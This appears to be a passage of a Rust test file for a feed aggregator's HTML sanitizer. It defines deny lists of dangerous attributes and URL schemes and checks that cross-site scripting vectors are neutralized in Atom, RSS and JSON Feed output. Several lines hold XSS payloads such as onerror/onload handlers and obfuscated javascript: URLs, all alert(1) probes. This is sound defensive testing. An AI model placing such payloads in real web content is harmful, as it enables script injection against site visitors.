    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Attributes that must never reach a reader (besides every `on…`).
const FORBIDDEN_ATTRS: &[&str] = &[
    "style",
    "srcdoc",
    "formaction",
    "srcset",
    "http-equiv",
    "xmlns",
    "xlink:href",
    "background",
    "ping",
    "target",
];

/// Attributes holding a URL.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "cite",
    "background",
    "poster",
    "data",
    "codebase",
    "longdesc",
    "xlink:href",
    "lowsrc",
    "dynsrc",
];

#[derive(Debug, Default)]
struct Stats {
    html_fields: usize,
    tags: usize,
    links: usize,
    relative_urls: Vec<String>,
}

/// Checks one sanitized HTML field; returns the problems found.
fn check_html(html: &str, stats: &mut Stats) -> Vec<String> {
    stats.html_fields += 1;
    let mut problems = Vec::new();
    let (tags, odd) = scan_html(html);
    problems.extend(odd);
    if html.contains("]]>") {
        problems.push("a raw `]]>`".into());
    }
    for tag in tags {
        stats.tags += 1;
        let name = tag.name.as_str();
        if FORBIDDEN_ELEMENTS.contains(&name) {
            problems.push(format!("forbidden element <{name}>"));
        } else if !ALLOWED_ELEMENTS.contains(&name) {
            problems.push(format!("element <{name}> not in the allowlist"));
        }
        let mut href = false;
        let mut rel = None;
        for (attr, value) in &tag.attrs {
            if attr.starts_with("on") {
                problems.push(format!("event handler {attr}={value:?} on <{name}>"));
            }
            if FORBIDDEN_ATTRS.contains(&attr.as_str()) {
                problems.push(format!("forbidden attribute {attr}={value:?} on <{name}>"));
            }
            if attr == "rel" {
                rel = Some(value.clone());
            }
            if URL_ATTRS.contains(&attr.as_str()) {
                href |= attr == "href";
                let squeezed: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                let allowed = ["http:", "https:", "mailto:"].iter().any(|s| squeezed.starts_with(s));
                if !allowed {
                    let scheme_end = squeezed.find(':');
                    let path_start = squeezed.find(['/', '?', '#']);
                    let has_scheme = scheme_end.is_some_and(|c| path_start.is_none_or(|p| c < p));
                    if has_scheme || squeezed.is_empty() {
                        problems.push(format!("URL {attr}={value:?} on <{name}>"));
                    } else {
                        stats.relative_urls.push(format!("{attr}={value:?} on <{name}>"));
                    }
                }
            }
        }
        if name == "a" && href {
            stats.links += 1;
            let ok = rel.as_deref().is_some_and(|r| {
                let words: HashSet<&str> = r.split_ascii_whitespace().collect();
                words.contains("noopener") && words.contains("noreferrer")
            });
            if !ok {
                problems.push(format!("link without rel=\"noopener noreferrer\": rel={rel:?}"));
            }
        }
    }
    problems
}

/// The visible text of sanitized HTML, without any whitespace.
fn html_text_squeezed(html: &str) -> String {
    let mut text = String::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        text.push_str(&rest[..lt]);
        rest = rest[lt..].find('>').map_or("", |gt| &rest[lt + gt + 1..]);
    }
    text.push_str(rest);
    htmlize::unescape(text).chars().filter(|c| !c.is_whitespace()).collect()
}

fn format_of(format: Format) -> &'static str {
    match format {
        Format::Atom => "Atom",
        Format::Rss => "RSS",
        Format::Json => "JSON",
    }
}

// ---------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------

#[test]
fn the_vector_list_is_large_and_distinct() {
    let distinct: HashSet<&str> = VECTORS.iter().copied().collect();
    assert_eq!(distinct.len(), VECTORS.len(), "duplicate vectors");
    assert!(VECTORS.len() >= 100, "only {} vectors", VECTORS.len());
    let xhtml = VECTORS.iter().filter(|v| xhtml_ok(v)).count();
    assert!(xhtml >= 50, "only {xhtml} vectors are well-formed XML");
    assert!(xhtml_ok("<svg onload=\"alert(1)\"/>"));
    assert!(!xhtml_ok("<img src=x onerror=alert(1)>"));
    assert!(!xhtml_ok("<a href=\"java&NewLine;script:alert(1)\">x</a>"));
}

/// Vectors that are harmless even unsanitized: markup-looking text inside
/// quoted attribute values, escaped or full-width text, and `src=x/onerror=…`
/// (one unquoted, relative URL).
const HARMLESS_AS_RAW_HTML: &[&str] = &[
    "<div title=\"<script>alert(1)</script>\">in an attribute</div>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<img/src=x/onerror=alert(1)>",
    "<div \"onclick=alert(1)\">x</div>",
    "<b>&#x338; onmouseover=alert(1) x</b>",
    "<b>\u{338} onmouseover=alert(1) x</b>",
    "<img src=\"https://ok.example/a.png\" alt=\"&quot; onerror=&quot;alert(1)\"/>",
    "<p title=\"]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">cdata</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
];

/// The checker has teeth: unsanitized, every other vector is flagged.
#[test]
fn the_checker_flags_every_raw_vector() {
    let mut unflagged = Vec::new();
    for v in VECTORS {
        let mut stats = Stats::default();
        if check_html(v, &mut stats).is_empty() {
            unflagged.push(*v);
        }
    }
    assert_eq!(unflagged, HARMLESS_AS_RAW_HTML);
}

#[test]
fn the_checker_catches_what_it_should() {
    let mut stats = Stats::default();
    for (bad, what) in [
        ("<script>alert(1)</script>", "forbidden element <script>"),
        ("<img src=x onerror=alert(1)>", "event handler onerror"),
        (
            "<a href=\"java&#x09;script:alert(1)\" rel=\"noopener noreferrer\">x</a>",
            "URL href",
        ),
        ("<a href=\"https://x.example/\">x</a>", "link without rel"),
        ("<p style=\"color:red\">x</p>", "forbidden attribute style"),
        ("<!--x-->", "comment"),
        ("<marquee>x</marquee>", "not in the allowlist"),
        ("<iframe srcdoc=\"x\"></iframe>", "forbidden attribute srcdoc"),
    ] {
        let problems = check_html(bad, &mut stats);
        assert!(problems.iter().any(|p| p.contains(what)), "{bad:?}: {problems:?}");
    }
    let fine = "<p>a &lt;script&gt; b</p><a href=\"mailto:a@b.example\" rel=\"noopener noreferrer\">m</a>\
                <img src=\"https://x.example/i.png\" alt=\"&lt;svg onload=x&gt;\">";
    assert_eq!(check_html(fine, &mut stats), Vec::<String>::new());
    let mut stats = Stats::default();
    check_html("<img src=\"rel/ative.png\">", &mut stats);
    assert_eq!(stats.relative_urls.len(), 1);
    assert!(read_xml_output("<feed><entry><title>a<b>x</b></title></entry></feed>", "entry").is_err());
    assert!(read_xml_output("<feed><entry><title>&nbsp;</title></entry></feed>", "entry").is_err());
    assert!(raw_titles_are_text("<title type=\"text\">a<script>x</script></title>").is_err());
}

#[tokio::test]
async fn xss_vectors_in_every_position_are_neutralized_in_every_format() {
    let sb = Sandbox::new();
    let mut blocks = String::new();
    let mut expected: BTreeMap<String, (Position, usize)> = BTreeMap::new();
    let mut per_position = Vec::new();
    for pos in Position::ALL {
        let items: Vec<usize> = (0..VECTORS.len())
            .filter(|&i| pos != Position::AtomContentXhtml || xhtml_ok(VECTORS[i]))
            .collect();
        for &i in &items {
            expected.insert(item_link(pos, i), (pos, i));
        }
        per_position.push(format!("{} {}", pos.slug(), items.len()));
        let path = sb.path(&pos.file());
        std::fs::write(&path, pos.feed(&items)).unwrap();
        blocks.push_str(&source_block(pos.slug(), path.to_str().unwrap()));
    }
    let tried = expected.len();
    eprintln!(
        "hostile: {} vectors × {} positions = {tried} placements ({})",
        VECTORS.len(),
        Position::ALL.len(),
        per_position.join(", ")
    );

    let mut config = sb.config(&blocks);
    config.feed.entries = 10_000;
    let cx = context(&config).await;
    let reports = poll_all(&cx, &config).await;
    for r in &reports {
        assert_eq!(
            (r.outcome, r.error.as_deref()),
            (PollOutcome::Ok, None),
            "source {} failed: {r:?}",
            r.source
        );
    }
    assert_eq!(
        cx.store.entry_count().unwrap(),
        u64::try_from(tried).unwrap(),
        "every placement is its own entry: {reports:?}"
    );

    let label = |link: &Option<String>| match link.as_ref().and_then(|l| expected.get(l)) {
        Some((pos, i)) => format!("{} #{i} {:?}", pos.slug(), VECTORS[*i]),
        None => format!("entry {link:?}"),
    };
    let mut problems: Vec<String> = Vec::new();
    let mut stats = Stats::default();
    let mut json_summaries_with_lt = 0;
    let mut titles_with_lt = 0;
    let mut atom_summaries: BTreeMap<String, String> = BTreeMap::new();
    // Summaries a source gave as plain text (JSON Feed `summary`) stay
    // plain text: Atom `type="text"`, escaped, never markup.
    let mut atom_text_summaries: BTreeMap<String, String> = BTreeMap::new();
    for format in [Format::Atom, Format::Rss, Format::Json] {
        let name = format_of(format);
        let body = render(&cx.store, &config, format);
        // (1) well-formed, entries extracted after undoing the container's escaping.
        let entries = match format {
            Format::Json => read_json_output(&body),
            Format::Atom => read_xml_output(&body, "entry"),
            Format::Rss => read_xml_output(&body, "item"),
        };
        let entries = entries.unwrap_or_else(|e| panic!("{name} output: {e}"));
        assert_eq!(entries.len(), tried, "{name}: entry count");
        let links: HashSet<&str> = entries.iter().filter_map(|e| e.link.as_deref()).collect();
        assert_eq!(links.len(), tried, "{name}: every placement appears once");
        if format != Format::Json {
            let titles = raw_titles_are_text(&body).unwrap_or_else(|e| panic!("{name}: {e}"));
            assert!(titles > tried, "{name}: {titles} titles");
        }
        // (2) every HTML field is safe.
        for entry in &entries {
            let who = label(&entry.link);
            if entry.title.as_deref().is_none_or(str::is_empty) {
                problems.push(format!("{name} {who}: no title"));
            }
            if entry.title.as_deref().is_some_and(|t| t.contains('<')) {
                titles_with_lt += 1;
            }
            for (field, html) in &entry.html {
                for p in check_html(html, &mut stats) {
                    problems.push(format!("{name} {who} {field}: {p}\n    in {html:?}"));
                }
                if format == Format::Atom && field == "summary" {
                    atom_summaries.insert(entry.link.clone().unwrap_or_default(), html.clone());
                }
            }
            if format == Format::Json {
                for (field, text) in &entry.text {
                    if field == "content_text" && text.is_empty() {
                        // What JSON Feed requires of an item whose HTML sanitized to nothing.
                        continue;
                    }
                    if field != "summary" {
                        problems.push(format!("{name} {who}: unexpected {field}"));
                        continue;
                    }
                    // JSON Feed's `summary` is plain text: the visible text of
                    // the sanitized HTML summary, never markup of its own.
                    json_summaries_with_lt += usize::from(text.contains('<'));
                    let link = entry.link.clone().unwrap_or_default();
                    if let Some(atom) = atom_text_summaries.get(&link) {
                        if atom != text {
                            problems.push(format!("{name} {who}: summary {text:?} is not Atom's text {atom:?}"));
                        }
                        continue;
                    }
                    match atom_summaries.get(&link) {
                        Some(html) => {
                            let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
                            if squeezed != html_text_squeezed(html) {
                                problems.push(format!(
                                    "{name} {who}: summary {text:?} is not the text of the sanitized HTML {html:?}"
                                ));
                            }
                        }
                        None => problems.push(format!("{name} {who}: summary without an Atom summary")),
                    }
                }
            } else {
                for (field, text) in &entry.text {
                    let from_plain_text = expected
                        .get(entry.link.as_deref().unwrap_or_default())
                        .map(|(pos, _)| *pos)
                        == Some(Position::JsonSummary);
                    if format == Format::Atom && field == "summary type=Some(\"text\")" && from_plain_text {
                        atom_text_summaries.insert(entry.link.clone().unwrap_or_default(), text.clone());
                        continue;
                    }
                    problems.push(format!("{name} {who}: unexpected text field {field}"));
                }
            }
        }
        // (3) feed-rs reads the document back, and its view is as safe.
        let parsed = feed_rs::parser::parse(body.as_bytes()).unwrap_or_else(|e| panic!("{name}: feed-rs: {e}"));
        assert_eq!(parsed.entries.len(), tried, "{name}: feed-rs entry count");
        for e in &parsed.entries {
            let who = label(&e.links.first().map(|l| l.href.clone()));
            let mut fields = Vec::new();
            // Plain text (Atom `type="text"`) is no HTML to check.
            let html = |t: &dyn ToString| t.to_string() != "text/plain";
            if let Some(c) = e.content.as_ref()
                && let Some(body) = c.body.as_ref()
                && html(&c.content_type)
            {
                fields.push(("content", body.as_str()));
            }
            if format != Format::Json
                && let Some(s) = e.summary.as_ref()
                && html(&s.content_type)
            {
                fields.push(("summary", s.content.as_str()));
            }
            for (field, html) in fields {
                let mut scratch = Stats::default();
                for p in check_html(html, &mut scratch) {
                    problems.push(format!("{name} (feed-rs view) {who} {field}: {p}"));
                }
            }
        }
    }
    eprintln!(
        "hostile: {tried} placements × 3 formats; {} HTML fields checked ({} tags, {} links); \
         {titles_with_lt} titles and {json_summaries_with_lt} JSON summaries hold a literal `<` as text; \
         {} relative URLs{}",
        stats.html_fields,
        stats.tags,
        stats.links,
        stats.relative_urls.len(),
        if stats.relative_urls.is_empty() {
            String::new()
        } else {
            format!(": {:?}", stats.relative_urls)
        }
    );
    assert!(
        problems.is_empty(),
        "{} problems over {} vectors × {} positions ({tried} placements) × 3 formats:\n{}",
        problems.len(),
        VECTORS.len(),
        Position::ALL.len(),
        problems.join("\n")
    );
}

/// Harmless markup survives the same trip, links get `rel="noopener noreferrer"`.
#[tokio::test]
async fn harmless_markup_survives_every_position() {
    let body = |n: usize| {
        format!(
            "<p>Paragraph {n} with <b>bold</b> and <a href=\"https://good.example/page/{n}\">a link</a>.</p>\
             <blockquote>Quoted {n}</blockquote><img src=\"https://good.example/pic-{n}.png\" alt=\"picture {n}\"/>"
        )
    };
    let expected = |n: usize| {
        format!(
            "<p>Paragraph {n} with <b>bold</b> and <a href=\"https://good.example/page/{n}\" rel=\"noopener noreferrer\">\
             a link</a>.</p><blockquote>Quoted {n}</blockquote><img src=\"https://good.example/pic-{n}.png\" \
             alt=\"picture {n}\">"
        )
    };
    let link = |n: usize| format!("https://good.example/story/{n}");
    let rss = format!(
        "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>g</title>\
         <item><guid>1</guid><title>One</title><link>{}</link><description>{}</description></item>\
         <item><guid>2</guid><title>Two</title><link>{}</link><content:encoded>{}</content:encoded></item>\
         </channel></rss>",
        link(1),
        escape(body(1)),
        link(2),
        cdata(&body(2))
    );
    let atom = format!(
        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>g</title><id>urn:g</id><updated>2026-01-01T00:00:00Z</updated>\
         <entry><id>urn:g:3</id><title>Three</title><link href=\"{}\"/><updated>2026-01-01T00:00:00Z</updated>\
         <content type=\"html\">{}</content></entry>\
         <entry><id>urn:g:4</id><title>Four</title><link href=\"{}\"/><updated>2026-01-01T00:00:00Z</updated>\
         <content type=\"xhtml\">{XHTML_DIV}{}</div></content></entry></feed>",
        link(3),
        escape(body(3)),
        link(4),
        body(4)
    );
    let json = serde_json::to_string(&json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": "g",
        "items": [{"id": "5", "title": "Five", "url": link(5), "content_html": body(5)}],
    }))
    .unwrap();
    let sb = Sandbox::new();
    let mut blocks = String::new();
    for (name, text) in [("g-rss", rss), ("g-atom", atom), ("g-json", json)] {
        let path = sb.path(name);
        std::fs::write(&path, text).unwrap();
        blocks.push_str(&source_block(name, path.to_str().unwrap()));
    }
    let config = sb.config(&blocks);
    let cx = context(&config).await;
    let reports = poll_all(&cx, &config).await;
    assert!(reports.iter().all(|r| r.outcome == PollOutcome::Ok), "{reports:?}");
    for format in Format::ALL {
        let name = format_of(format);
        let out = render(&cx.store, &config, format);
        let entries = match format {
            Format::Json => read_json_output(&out),
            Format::Atom => read_xml_output(&out, "entry"),
            Format::Rss => read_xml_output(&out, "item"),
        }
        .unwrap();
        assert_eq!(entries.len(), 5, "{name}");
        for entry in entries {
            let n: usize = entry
                .link
                .as_deref()
                .unwrap()
                .rsplit('/')
                .next()
                .unwrap()
                .parse()
                .unwrap();
            assert!(!entry.html.is_empty(), "{name} #{n}: no HTML");
            for (field, html) in &entry.html {
                assert_eq!(html, &expected(n), "{name} #{n} {field}");
                let mut stats = Stats::default();
                assert_eq!(check_html(html, &mut stats), Vec::<String>::new(), "{name} #{n}");
                assert_eq!(stats.links, 1);
            }
        }
        feed_rs::parser::parse(out.as_bytes()).unwrap_or_else(|e| panic!("{name}: {e}"));
    }
}
